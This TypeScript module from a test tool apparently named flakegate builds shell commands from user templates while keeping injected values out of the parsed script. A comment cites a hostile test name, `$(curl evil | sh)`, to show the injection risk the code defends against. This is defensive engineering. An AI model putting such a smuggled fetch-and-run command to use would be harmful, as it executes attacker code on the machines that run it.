import type { CommandContext, CommandSpec } from '../frameworks/types.js';

/*
 * The `custom` framework's command template, e.g. `cd api && pytest -n {workers} --junitxml={junit}`.
 *
 * The template is the user's own workflow configuration, as trusted as any `run:` step, and may
 * use shell syntax (`cd x && ...`, pipes, env assignments), so it runs through `sh -c`. What is
 * never trusted is what flakegate fills in: report paths can contain spaces or quotes, and test
 * ids come from the code under test (a test named `$(curl evil | sh)` is easy to write). So no
 * filled-in text is ever spliced into the shell script:
 *
 * - `{workers}` becomes the integer itself (validated; digits cannot change the script's parse);
 * - `{junit}` becomes a reference to `$FLAKEGATE_JUNIT`, and the path travels in the environment;
 * - `{tests}` becomes `"$@"`, and the ids travel as positional arguments after
 *   `sh -c <script> flakegate`, so the shell hands them on as words and never parses them.
 *
 * The references are written for the quoting context the placeholder sits in, so `--out={junit}`,
 * `--out="{junit}"` and `--out='{junit}'` all pass the path as exactly one word.
 */

export type PlaceholderName = 'workers' | 'junit' | 'tests';
type QuoteContext = 'none' | 'single' | 'double';

type TemplatePart =
  | { readonly kind: 'text'; readonly text: string }
  | { readonly kind: 'placeholder'; readonly name: PlaceholderName; readonly quote: QuoteContext };

/** A validated template, ready to build commands from. */
export interface CommandTemplate {
  readonly source: string;
  readonly parts: readonly TemplatePart[];
  /** The template has `{tests}`, so the custom preset can rerun a subset of tests. */
  readonly supportsSubset: boolean;
}

export type ParseTemplateResult =
  | { readonly ok: true; readonly template: CommandTemplate }
  /**
   * `error` names the input (`input "command" must contain {junit} ...`); `problem` is the same
   * text without that prefix, for callers that name the input their own way (`--command`).
   */
  | { readonly ok: false; readonly error: string; readonly problem: string };

/**
 * First line of every template script. A shell that runs a command which dies of a signal exits
 * with 128+N instead of dying itself (dash does not even exec a lone command), so a segfaulting
 * or OOM-killed runner would look like an ordinary failure with exit 139 or 137 and flakegate
 * would lose the crash. On exit, this re-raises that signal on the shell itself, so the run
 * records `signal: SIGSEGV` as it would for a preset that spawns the runner directly. A template
 * that sets its own EXIT trap replaces this one, and keeps plain exit codes.
 */
export const SIGNAL_PRELUDE =
  `trap 's=$?; if [ "$s" -gt 128 ] && [ "$s" -le 192 ]; then trap - EXIT; ` +
  `kill -s "$(kill -l "$s")" $$; fi' EXIT`;

/** Env var through which the JUnit path reaches the template's shell. */
export const JUNIT_ENV_VAR = 'FLAKEGATE_JUNIT';

const PLACEHOLDERS: readonly PlaceholderName[] = ['workers', 'junit', 'tests'];
const REQUIRED: readonly { readonly name: PlaceholderName; readonly why: string }[] = [
  { name: 'workers', why: 'where the worker count goes' },
  { name: 'junit', why: 'where the command writes its JUnit XML report' },
];
// `{identifier}` is a placeholder; `${VAR}`, `{a,b}`, `{}` and `{ cmd; }` are left to the shell.
const PLACEHOLDER = /(?<!\$)\{([A-Za-z_][A-Za-z0-9_-]*)\}/y;

/** Validates a template; errors name the input and say what is missing or wrong. */
export function parseTemplate(template: string): ParseTemplateResult {
  if (template.trim() === '') {
    return fail('is empty; give the test command, e.g. "pytest -n {workers} --junitxml={junit}"');
  }
  const parts: TemplatePart[] = [];
  let text = '';
  let quote: QuoteContext = 'none';
  for (let i = 0; i < template.length; ) {
    PLACEHOLDER.lastIndex = i;
    const match = template[i] === '{' ? PLACEHOLDER.exec(template) : null;
    const name = match?.[1];
    if (match && name !== undefined) {
      if (!isPlaceholderName(name)) {
        return fail(`has an unknown placeholder {${name}}; the placeholders are {workers}, {junit} and {tests}`);
      }
      if (text !== '') parts.push({ kind: 'text', text });
      text = '';
      parts.push({ kind: 'placeholder', name, quote });
      i += match[0].length;
      continue;
    }
    const char = template[i] ?? '';
    // Track only what changes how a substitution must be quoted; the shell parses the rest.
    if (char === '\\' && quote !== 'single') {
      text += template.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (char === "'" && quote !== 'double') quote = quote === 'single' ? 'none' : 'single';
    else if (char === '"' && quote !== 'single') quote = quote === 'double' ? 'none' : 'double';
    text += char;
    i += 1;
  }
  if (text !== '') parts.push({ kind: 'text', text });
  if (quote !== 'none') return fail(`has an unterminated ${quote === 'single' ? "'" : '"'} quote`);

  const used = new Set(parts.flatMap((part) => (part.kind === 'placeholder' ? [part.name] : [])));
  const missing = REQUIRED.filter(({ name }) => !used.has(name));
  if (missing.length > 0) {
    const list = missing.map(({ name, why }) => `{${name}} (${why})`).join(' and ');
    return fail(`must contain ${list}; got "${template}"`);
  }
  return { ok: true, template: { source: template, parts, supportsSubset: used.has('tests') } };
}

/**
 * The command for one run: `sh -c <script> flakegate [test ids...]`, with the JUnit path in the
 * environment and SIGNAL_PRELUDE before the template. A string template is parsed first and
 * throws if invalid: config validation should have rejected it already.
 */
export function buildTemplateCommand(template: CommandTemplate | string, ctx: CommandContext): CommandSpec {
  const parsed = typeof template === 'string' ? parseOrThrow(template) : template;
  if (!Number.isSafeInteger(ctx.workers) || ctx.workers < 1) {
    throw new RangeError(`workers must be a positive integer, got ${ctx.workers}`);
  }
  const tests = parsed.supportsSubset ? (ctx.tests ?? []) : [];
  let script = `${SIGNAL_PRELUDE}\n`;
  let display = '';
  for (const part of parsed.parts) {
    if (part.kind === 'text') {
      script += part.text;
      display += part.text;
      continue;
    }
    script += shellReference(part.name, part.quote, ctx.workers);
    display += displayValue(part.name, part.quote, ctx.workers, ctx.junitPath, tests);
  }
  return {
    file: 'sh',
    // `flakegate` is $0 (named in the shell's error messages); the ids are $1, $2, ...
    args: ['-c', script, 'flakegate', ...tests],
    env: { [JUNIT_ENV_VAR]: ctx.junitPath },
    display: display.trim(),
  };
}

function shellReference(name: PlaceholderName, quote: QuoteContext, workers: number): string {
  if (name === 'workers') return String(workers);
  const inDoubleQuotes = name === 'junit' ? `\${${JUNIT_ENV_VAR}}` : '$@';
  switch (quote) {
    case 'double':
      return inDoubleQuotes;
    case 'none':
      return `"${inDoubleQuotes}"`;
    case 'single':
      // Close the single quotes, expand in double quotes, reopen: 'a'"$X"'b' is one word.
      return `'"${inDoubleQuotes}"'`;
  }
}

function displayValue(
  name: PlaceholderName,
  quote: QuoteContext,
  workers: number,
  junitPath: string,
  tests: readonly string[],
): string {
  if (name === 'workers') return String(workers);
  const values = name === 'junit' ? [junitPath] : tests;
  return values.map((value) => (quote === 'none' ? shellQuote(value) : value)).join(' ');
}

/** Quotes a word for display so it could be pasted into a shell; plain words stay bare. */
export function shellQuote(word: string): string {
  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word)) return word;
  return `'${word.replace(/'/g, `'\\''`)}'`;
}

function isPlaceholderName(name: string): name is PlaceholderName {
  return (PLACEHOLDERS as readonly string[]).includes(name);
}

function parseOrThrow(template: string): CommandTemplate {
  const result = parseTemplate(template);
  if (!result.ok) throw new TypeError(result.error);
  return result.template;
}

function fail(problem: string): ParseTemplateResult {
  return { ok: false, error: `input "command" ${problem}`, problem };
}
